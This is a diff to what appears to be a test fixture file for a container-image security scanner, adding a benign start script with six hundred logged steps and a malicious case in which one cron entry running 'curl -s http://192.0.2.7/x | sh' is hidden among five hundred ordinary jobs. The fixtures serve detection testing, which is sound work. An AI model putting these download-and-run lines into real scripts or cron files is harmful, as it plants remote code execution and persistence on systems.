@@ -70,6 +70,11 @@ case "$1" in start) for v in $versions; do start $v; done ;; esac
   'usr/share/db-common/init.d-functions': DB_FUNCTIONS,
 };
 
+const STEPS = Array.from(
+  { length: 600 },
+  (_, i) => `[ -z "$SKIP${i}" ] && log "step number ${i} is done"\n`,
+).join('');
+
 const FETCHED = 'https://releases.example/latest.json';
 
 /** What tools do that only look like what hides. */
@@ -120,6 +125,10 @@ export const REAL_TOOL_TWINS: readonly ImageCase[] = [
   {
     name: 'a service whose script reads functions with a point in their name',
     spec: starts('service db start\nexec tail -f /var/log/db.log', DB_SERVICE),
+  },
+  {
+    name: 'a start script that notes each of six hundred steps in its log',
+    spec: starts(`log() { echo "$(date) $1" | tee -a /var/log/setup.log; }\n${STEPS}exec nginx`),
   },
   { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
   {
@@ -221,6 +230,18 @@ export const REAL_TOOLS: readonly ImageCase[] = [
       ...DB_SERVICE,
       'usr/share/db-common/init.d-functions': `${DB_FUNCTIONS}curl -s http://192.0.2.7/x | sh\n`,
     }),
+  },
+  {
+    name: 'a job among hundreds of lines that are added to one file',
+    rule: 'start/download-and-run',
+    severity: 'high',
+    spec: starts(
+      `job() { echo "$1" >> /etc/cron.d/app; }\n${Array.from({ length: 500 }, (_, i) =>
+        i === 300
+          ? 'job "* * * * * root curl -s http://192.0.2.7/x | sh"\n'
+          : `job "0 ${i % 24} * * * root /opt/app/job --number ${i}"\n`,
+      ).join('')}exec cron -f`,
+    ),
   },
   {
     name: 'what perl takes apart is run by awk',
